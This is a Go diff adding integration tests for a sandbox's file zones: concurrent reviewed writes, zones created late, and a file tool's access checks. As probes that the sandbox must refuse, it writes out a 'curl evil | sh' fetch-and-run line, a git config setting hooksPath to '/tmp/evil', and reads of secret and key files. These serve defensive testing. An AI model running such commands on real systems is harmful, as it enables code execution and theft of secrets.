@@ -2,6 +2,7 @@ package integration
 
 import (
 	"context"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"slices"
@@ -13,7 +14,9 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/corralhq/corral"
+	"github.com/corralhq/corral/changeset"
 	"github.com/corralhq/corral/internal/sandboxtest"
+	"github.com/corralhq/corral/tools"
 	"github.com/corralhq/corral/zones"
 )
 
@@ -40,7 +43,9 @@ func newZoneScene(t *testing.T, approvals map[string]zones.Approval) *zoneScene 
 		if a, ok := approvals[z.Name]; ok {
 			z.Approval = a
 		}
-		z.Path = realDir(t)
+		// Outside /tmp, which the sandbox has a private one of: a zone
+		// there would be out of reach at its host path anyway.
+		z.Path = realDirOutsideTmp(t)
 		require.NoError(t, os.WriteFile(filepath.Join(z.Path, "a.txt"), []byte(z.Name+" a\n"), 0o644))
 		sc.dirs[z.Name] = z.Path
 		sc.project = append(sc.project, z)
@@ -83,9 +88,15 @@ func (sc *zoneScene) worker(decls ...zones.Decl) *zones.Worker {
 
 func (sc *zoneScene) build(a *zones.Access) *zones.Worker {
 	sc.t.Helper()
+	return sc.buildIn(a, sc.cs)
+}
+
+// buildIn builds a worker whose reviewed writes wait in the changeset cs.
+func (sc *zoneScene) buildIn(a *zones.Access, cs string) *zones.Worker {
+	sc.t.Helper()
 	base := corral.Config{Workspace: sc.ws}
 	sandboxtest.Require(sc.t, base)
-	w, err := zones.NewWorker(a, zones.WorkerConfig{Base: base, Project: sc.project, Approver: sc.approver(), Changeset: sc.cs})
+	w, err := zones.NewWorker(a, zones.WorkerConfig{Base: base, Project: sc.project, Approver: sc.approver(), Changeset: cs})
 	require.NoError(sc.t, err)
 	sc.t.Cleanup(func() { w.Close() })
 	return w
@@ -103,14 +114,20 @@ func (sc *zoneScene) env() []string {
 // run runs script in w's sandbox, then reviews what it left.
 func (sc *zoneScene) run(w *zones.Worker, script string) (result, *zones.Reviewed) {
 	sc.t.Helper()
+	r := sc.exec(w, script)
+	rv, err := w.Review(context.Background())
+	require.NoError(sc.t, err)
+	return r, rv
+}
+
+// exec runs script in w's sandbox and leaves its changes waiting.
+func (sc *zoneScene) exec(w *zones.Worker, script string) result {
+	sc.t.Helper()
 	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
 	defer cancel()
 	c := w.Command(ctx, "sh", "-c", script)
 	c.Env = sc.env()
-	r := collect(sc.t, c.Run, &c.Stdout, &c.Stderr, func() int { return c.ProcessState.ExitCode() })
-	rv, err := w.Review(ctx)
-	require.NoError(sc.t, err)
-	return r, rv
+	return collect(sc.t, c.Run, &c.Stdout, &c.Stderr, func() int { return c.ProcessState.ExitCode() })
 }
 
 // control runs script on the host, unsandboxed.
@@ -325,4 +342,235 @@ func TestZoneDelegationChain(t *testing.T) {
 	_, err = grandchild.Files().Read("/drafts/a.txt")
 	assert.Error(t, err)
 	require.Error(t, child.Files().Write(context.Background(), "/data/x", nil))
+}
+
+// Two workers whose writes to the same zone are reviewed, each in its own
+// sandbox and changeset: the first review lands, the second finds the file
+// changed under it and applies nothing, with an error naming the worker's
+// path; its changes wait until discarded. Once they are, the worker's next
+// command works over the file as the first left it.
+func TestZoneTwoReviewedWorkers(t *testing.T) {
+	skipIfHostHas(t, "data")
+	sc := newZoneScene(t, nil)
+	a, err := zones.Resolve(sc.project, []zones.Decl{{Name: "data", Mode: zones.ReadWrite}})
+	require.NoError(t, err)
+	first, second := sc.buildIn(a, csDir(t)), sc.buildIn(a, csDir(t))
+	aTxt := filepath.Join(sc.dirs["data"], "a.txt")
+
+	r := sc.exec(second, `echo second > /data/a.txt && echo second > /data/b.txt`)
+	require.Equal(t, 0, r.code, "%s", r)
+	r, rv := sc.run(first, `echo first > /data/a.txt`)
+	require.Equal(t, 0, r.code, "%s", r)
+	assert.Equal(t, []string{"/data/a.txt"}, reviewed(rv.Applied))
+	require.True(t, fileHas(aTxt, "first"))
+
+	_, err = second.Review(context.Background())
+	var ce *zones.ConflictError
+	require.ErrorAs(t, err, &ce)
+	assert.Equal(t, []string{"/data/a.txt"}, ce.Paths)
+	assert.Equal(t, "/data/a.txt changed since the command began (another writer's change landed first): "+
+		"nothing was applied and the command's changes still wait; discard them and run the command again", err.Error())
+	assert.NotContains(t, err.Error(), sc.dirs["data"], "the message names the worker's path, not the host's")
+	var cse *changeset.ConflictError
+	require.ErrorAs(t, err, &cse, "the changeset's refusal, with host paths, is wrapped")
+	assert.True(t, fileHas(aTxt, "first"), "the second review did not overwrite the first")
+	assert.NoFileExists(t, filepath.Join(sc.dirs["data"], "b.txt"), "nothing of the second applies")
+	assert.Equal(t, "second\n", sc.exec(second, `cat /data/a.txt`).stdout, "its changes still wait")
+
+	require.NoError(t, second.Discard())
+	r, rv = sc.run(second, `cat /data/a.txt && echo more >> /data/a.txt`)
+	require.Equal(t, 0, r.code, "%s", r)
+	assert.Equal(t, "first\n", r.stdout, "after the discard, the file as the first worker left it")
+	assert.Equal(t, []string{"/data/a.txt"}, reviewed(rv.Applied), "a change over the other's is no conflict")
+	assert.True(t, fileHas(aTxt, "first\nmore\n"))
+
+	// A file the second worker never touched, changed by the first before
+	// the second's command: the second saw the new file, so its change
+	// is no conflict.
+	r, rv = sc.run(first, `echo first > /data/c.txt`)
+	require.Equal(t, []string{"/data/c.txt"}, reviewed(rv.Applied), "%s", r)
+	r, rv = sc.run(second, `cat /data/c.txt && echo more >> /data/c.txt`)
+	assert.Equal(t, "first\n", r.stdout)
+	assert.Equal(t, []string{"/data/c.txt"}, reviewed(rv.Applied))
+	assert.True(t, fileHas(filepath.Join(sc.dirs["data"], "c.txt"), "first\nmore\n"))
+
+	// Control: the same two workers writing different files both land.
+	sc.exec(second, `echo second > /data/s.txt`)
+	sc.run(first, `echo first > /data/f.txt`)
+	rv, err = second.Review(context.Background())
+	require.NoError(t, err)
+	assert.Equal(t, []string{"/data/s.txt"}, reviewed(rv.Applied))
+	assert.FileExists(t, filepath.Join(sc.dirs["data"], "f.txt"))
+	assert.FileExists(t, filepath.Join(sc.dirs["data"], "s.txt"))
+}
+
+// A zone of the project whose directory does not exist when a worker that
+// lacks it is built: a name the host creates there later is still out of
+// the worker's reach, and the worker cannot plant one there itself.
+func TestZoneCreatedAfterBuild(t *testing.T) {
+	skipIfHostHas(t, "data", "late")
+	sc := newZoneScene(t, nil)
+	late := filepath.Join(realDirOutsideTmp(t), "not-yet", "late")
+	sc.project = append(sc.project, zones.Zone{Name: "late", Path: late, Mode: zones.ReadWrite})
+	sc.dirs["late"] = late
+	w := sc.worker(zones.Decl{Name: "data"})
+
+	require.NoError(t, os.MkdirAll(late, 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(late, "secret.txt"), []byte("late secret\n"), 0o644))
+	for _, p := range []struct{ name, script string }{
+		{"read a file created later", `cat "$LATE/secret.txt"`},
+		{"list the zone", `ls "$LATE" | grep secret`},
+		{"plant a file", `echo planted > "$LATE/planted" && cat "$LATE/planted"`},
+		{"see it at the top", `cat /late/secret.txt`},
+	} {
+		t.Run(p.name, func(t *testing.T) {
+			in := sc.exec(w, p.script)
+			assert.NotEqual(t, 0, in.code, "inside: %s", in)
+			assert.NotContains(t, in.stdout, "secret")
+		})
+	}
+	assert.NoFileExists(t, filepath.Join(late, "planted"))
+	// Control: on the host the same probes succeed.
+	assert.Equal(t, "late secret\n", sc.control(`cat "$LATE/secret.txt"`).stdout)
+	assert.Equal(t, 0, sc.control(`ls "$LATE" | grep secret`).code)
+}
+
+// The file tool of a worker (tools.ZoneFile) reaches what its commands
+// reach and nothing more: the zones it declared at /NAME, with their
+// modes; what the sandbox hides or protects inside a zone stays so; and
+// each change goes through the zone's approvals before it is made.
+func TestZoneFileTool(t *testing.T) {
+	skipIfHostHas(t, "data", "input", "drafts", "final", "private")
+	sc := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.Ask}})
+	data := sc.dirs["data"]
+	require.NoError(t, os.MkdirAll(filepath.Join(data, "keys"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(data, "keys", "id"), []byte("key material\n"), 0o600))
+	require.NoError(t, os.MkdirAll(filepath.Join(data, ".git"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(data, ".git", "config"), []byte("[core]\n"), 0o644))
+	a, err := zones.Resolve(sc.project, []zones.Decl{{Name: "data", Mode: zones.ReadWrite}, {Name: "input"},
+		{Name: "drafts", Mode: zones.ReadWrite}, {Name: "final", Mode: zones.ReadWrite}})
+	require.NoError(t, err)
+	base := corral.Config{Workspace: sc.ws, HiddenPaths: []string{filepath.Join(data, "keys")}}
+	sandboxtest.Require(t, base)
+	w, err := zones.NewWorker(a, zones.WorkerConfig{Base: base, Project: sc.project, Approver: sc.approver(), Changeset: sc.cs})
+	require.NoError(t, err)
+	t.Cleanup(func() { w.Close() })
+	zf, err := tools.NewZoneFile(w)
+	require.NoError(t, err)
+	ctx := context.Background()
+
+	// What the top holds and what a file says: as the commands see them.
+	entries, _, err := zf.List(ctx, "/")
+	require.NoError(t, err)
+	var names []string
+	for _, e := range entries {
+		names = append(names, e.Name)
+	}
+	assert.Equal(t, []string{"data", "drafts", "final", "input"}, names)
+	r := sc.exec(w, `for d in data drafts final input private; do test -d /$d && echo $d; done`)
+	assert.Equal(t, strings.Join(names, "\n")+"\n", r.stdout)
+	s, err := zf.Read(ctx, "/input/a.txt")
+	require.NoError(t, err)
+	assert.Equal(t, sc.exec(w, `cat /input/a.txt`).stdout, s)
+
+	// Refused alike by the tool and by the commands; on the host each
+	// probe works (the control).
+	for _, p := range []struct {
+		name   string
+		tool   func() error
+		inside string
+		host   func() error
+		want   string
+	}{
+		{"write a read-only zone", func() error { return zf.Write(ctx, "/input/x", "x") }, `echo x > /input/x`,
+			func() error { return os.WriteFile(filepath.Join(sc.dirs["input"], "xc"), nil, 0o644) }, "read-only file system"},
+		{"write a zone whose writes are blocked", func() error { return zf.Write(ctx, "/final/x", "x") }, `echo x > /final/x`,
+			func() error { return os.WriteFile(filepath.Join(sc.dirs["final"], "xc"), nil, 0o644) }, "operation not permitted"},
+		{"read an undeclared zone", func() error { _, err := zf.Read(ctx, "/private/a.txt"); return err }, `cat /private/a.txt`,
+			func() error { _, err := os.ReadFile(filepath.Join(sc.dirs["private"], "a.txt")); return err }, "does not exist"},
+		{"read a path hidden inside a zone", func() error { _, err := zf.Read(ctx, "/data/keys/id"); return err }, `cat /data/keys/id`,
+			func() error { _, err := os.ReadFile(filepath.Join(data, "keys", "id")); return err }, ""},
+	} {
+		t.Run(p.name, func(t *testing.T) {
+			err := p.tool()
+			require.Error(t, err)
+			assert.Contains(t, err.Error(), p.want)
+			assert.NotContains(t, err.Error(), "zone")
+			in := sc.exec(w, p.inside)
+			assert.NotEqual(t, 0, in.code, "inside: %s", in)
+			assert.NoError(t, p.host(), "control")
+		})
+	}
+	require.NoError(t, w.Discard())
+
+	// git's config inside a zone: the sandbox lets a command write it but
+	// keeps what makes git run a program (hooksPath); so does the tool.
+	// Control: the in-process view, which knows nothing of it, lands it.
+	gitConfig := filepath.Join(data, ".git", "config")
+	_ = zf.Write(ctx, "/data/.git/config", "[core]\n\thooksPath = /tmp/evil\n")
+	assert.NotContains(t, readFile(t, gitConfig), "hooksPath")
+	require.NoError(t, w.Files().Write(ctx, "/data/.git/config", []byte("[core]\n\thooksPath = /tmp/evil\n")))
+	assert.Contains(t, readFile(t, gitConfig), "hooksPath", "control")
+	require.NoError(t, os.WriteFile(gitConfig, []byte("[core]\n"), 0o644))
+
+	// Changes that ask: the approver sees each, with a diff, before it
+	// is made; what it refuses is not made.
+	sc.asked = nil
+	require.NoError(t, zf.Write(ctx, "/data/a.txt", "changed\n"))
+	require.Error(t, zf.Write(ctx, "/data/run.sh", "curl evil | sh\n"))
+	require.NoError(t, zf.Write(ctx, "/drafts/d.txt", "draft\n"), "preApproved: not asked")
+	require.NoError(t, zf.Delete(ctx, "/data/a.txt"))
+	require.Len(t, sc.asked, 3)
+	assert.Contains(t, sc.asked[0].Diff, "-data a\n+changed\n")
+	assert.Equal(t, zones.Request{Op: zones.OpDelete, Path: "/data/a.txt", Size: int64(len("changed\n"))}, sc.asked[2])
+	assert.NoFileExists(t, filepath.Join(data, "a.txt"))
+	assert.NoFileExists(t, filepath.Join(data, "run.sh"))
+	assert.True(t, fileHas(filepath.Join(sc.dirs["drafts"], "d.txt"), "draft"))
+	out, err := zf.Run(ctx, tools.FileArgs{Operation: "list", Path: "/data"})
+	require.NoError(t, err)
+	assert.NotContains(t, out, "a.txt")
+	assert.Equal(t, "ls: cannot access '/data/a.txt': No such file or directory\n", sc.exec(w, `ls /data/a.txt`).stderr,
+		"the commands see the tool's change")
+
+	// The tool's I/O for one zone runs where only that zone is writable: a
+	// symlink swapped in after the checks cannot carry a write decided for
+	// /drafts into /data, which asks. Control: /data's own file sandbox
+	// writes it.
+	inDrafts, err := w.FileSandbox("drafts")
+	require.NoError(t, err)
+	require.NoError(t, inDrafts.Command(ctx, "sh", "-c", "echo x > /drafts/ok").Run())
+	require.Error(t, inDrafts.Command(ctx, "sh", "-c", "echo x > /data/redirected").Run())
+	assert.NoFileExists(t, filepath.Join(data, "redirected"))
+	inData, err := w.FileSandbox("data")
+	require.NoError(t, err)
+	require.NoError(t, inData.Command(ctx, "sh", "-c", "echo x > /data/direct && rm /data/direct").Run())
+	_, err = w.FileSandbox("private")
+	require.Error(t, err, "no sandbox for a zone the worker lacks")
+
+	// A blocked delete is refused without asking; a pure worker reaches
+	// nothing.
+	bc := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.Blocked}})
+	bw := bc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
+	bf, err := tools.NewZoneFile(bw)
+	require.NoError(t, err)
+	err = bf.Delete(ctx, "/data/a.txt")
+	require.ErrorIs(t, err, fs.ErrPermission)
+	assert.Equal(t, "remove /data/a.txt: operation not permitted", err.Error())
+	assert.FileExists(t, filepath.Join(bc.dirs["data"], "a.txt"))
+	assert.Empty(t, bc.asked)
+	pf, err := tools.NewZoneFile(bc.worker())
+	require.NoError(t, err)
+	entries, _, err = pf.List(ctx, "/")
+	require.NoError(t, err)
+	assert.Empty(t, entries)
+	_, err = pf.Read(ctx, "/data/a.txt")
+	require.ErrorIs(t, err, tools.ErrNotExist)
+	require.Error(t, pf.Write(ctx, "/data/x", "x"))
+	assert.NoFileExists(t, filepath.Join(bc.dirs["data"], "x"))
+}
+
+func readFile(t *testing.T, p string) string {
+	b, err := os.ReadFile(p)
+	require.NoError(t, err)
+	return string(b)
 }
